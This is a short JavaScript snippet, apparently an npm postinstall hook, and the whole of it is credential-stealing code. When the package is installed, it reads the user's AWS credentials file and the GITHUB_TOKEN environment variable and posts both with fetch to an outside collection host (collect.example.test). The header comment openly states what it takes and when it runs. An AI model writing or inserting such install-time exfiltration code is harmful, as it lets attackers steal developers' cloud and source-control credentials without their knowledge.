// Cloud credentials and the token variable are posted with fetch; runs: postinstall
const fs = require("fs");
const os = require("os");
const data = {
  file: fs.readFileSync(os.homedir() + "/.aws/credentials", "utf8"),
  token: process.env.GITHUB_TOKEN,
};
fetch("https://collect.example.test/cloud", { method: "POST", body: JSON.stringify(data) });
